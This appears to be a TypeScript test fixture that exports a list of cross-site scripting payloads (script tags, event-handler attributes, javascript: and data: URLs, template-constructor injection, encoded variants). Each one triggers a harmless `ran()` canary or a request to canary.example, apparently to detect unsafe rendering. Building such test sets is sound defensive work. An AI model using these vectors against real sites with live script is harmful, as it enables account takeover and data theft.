// Each payload calls `ran` if a page treats it as markup, as a URL or as a script.

const MARKUP = [
  '<script>ran()</script>',
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  '</script><script>ran()</script>',
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</option></select><img src=x onerror=ran()>',
  '<img src=x onerror=ran()>',
  '<img src="https://canary.example/seen">',
  '<svg onload=ran()>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=ran()></mtext></math>',
  '<body onload=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<details open ontoggle=ran()>',
  '<input autofocus onfocus=ran()>',
  '<video><source onerror=ran()></video>',
  '<style>@import "https://canary.example/style"</style>',
  '<link rel=stylesheet href="https://canary.example/link">',
  '<base href="https://canary.example/">',
  '<meta http-equiv=refresh content="0;url=https://canary.example/">',
  '<form action="https://canary.example/"><button autofocus>',
];

const ATTRIBUTES = [
  '" autofocus onfocus="ran()',
  "' autofocus onfocus='ran()",
  '" onmouseover="ran()" x="',
  '` onerror=ran() `',
];

const URLS = [
  'javascript:ran()',
  'JaVaScRiPt:ran()//',
  'java\tscript:ran()',
  'data:text/html,<script>ran()</script>',
  '//canary.example/seen',
];

const TEMPLATES = [
  '{{constructor.constructor("ran()")()}}',
  '[click](javascript:ran())',
  '![x](https://canary.example/markdown)',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '%3Cscript%3Eran()%3C/script%3E',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
];

export const PAYLOADS: readonly string[] = [...MARKUP, ...ATTRIBUTES, ...URLS, ...TEMPLATES];
